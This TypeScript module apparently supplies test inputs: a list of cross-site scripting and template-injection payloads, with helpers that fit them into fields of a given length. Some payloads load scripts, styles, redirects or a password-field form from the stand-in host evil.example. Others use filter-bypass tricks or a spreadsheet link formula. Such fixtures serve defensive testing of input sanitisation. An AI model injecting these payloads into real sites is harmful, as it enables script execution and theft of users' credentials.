/** Texts that inject scripts where they are taken for markup, an attribute, an address, a script or a template. */
export const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  `<scr<script>ipt>alert(2)</scr</script>ipt>`,
  `<script\\x20type="text/javascript">alert(3)</script>`,
  `"><img src=x onerror=alert(4)>`,
  `'><img src=x onerror=alert(5)>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img/src=x/onerror=alert(6)>`,
  `<svg onload=alert(7)>`,
  `<svg><script>alert(8)</script></svg>`,
  `<svg><animate onbegin=alert(9) attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:alert(10)"><text y=9>x</text></a></svg>`,
  `<math><mtext><style><img src onerror=alert(11)></style></mtext></math>`,
  `<body onload=alert(12)>`,
  `<iframe src="javascript:alert(13)"></iframe>`,
  `<iframe srcdoc="<script>alert(14)</script>"></iframe>`,
  `<object data="javascript:alert(15)"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name=senha autofocus onfocus=alert(16)>`,
  `<details open ontoggle=alert(17)><summary>x</summary></details>`,
  `<video><source onerror=alert(18)></video>`,
  `<audio src=x onerror=alert(19)>`,
  `<a href="javascript:alert(20)">clique</a>`,
  `<a href="data:text/html,<script>alert(21)</script>">clique</a>`,
  `javascript:alert(22)`,
  `" autofocus onfocus=alert(23) x="`,
  `' onmouseover='alert(24)`,
  '` onmouseover=alert(25) `',
  `'-alert(26)-'`,
  `";alert(27);//`,
  `</script><script>alert(28)</script>`,
  `</title><script>alert(29)</script>`,
  `</textarea><script>alert(30)</script>`,
  `--><script>alert(31)</script><!--`,
  `]]><script>alert(32)</script>`,
  `{{constructor.constructor('alert(33)')()}}`,
  '${alert(34)}#{alert(35)}<%= alert(36) %>',
  `&lt;script&gt;alert(37)&lt;/script&gt;&#60;img src=x onerror=alert(38)&#62;`,
  `\\u003cscript\\u003ealert(39)\\u003c/script\\u003e`,
  `=HYPERLINK("https://evil.example/";"clique")`,
] as const

/** As many payloads as fit into a field of `longest` characters. */
export function payloadsOf(longest: number): string {
  let text = ''
  for (const payload of PAYLOADS)
    if (text.length + payload.length < longest) text += text === '' ? payload : ` ${payload}`
  return text
}

/** Every payload, spread over `parts` texts. */
export function payloadsIn(parts: number): readonly string[] {
  const each = Math.ceil(PAYLOADS.length / parts)
  return Array.from({ length: parts }, (_, at) => PAYLOADS.slice(at * each, (at + 1) * each).join(' '))
}
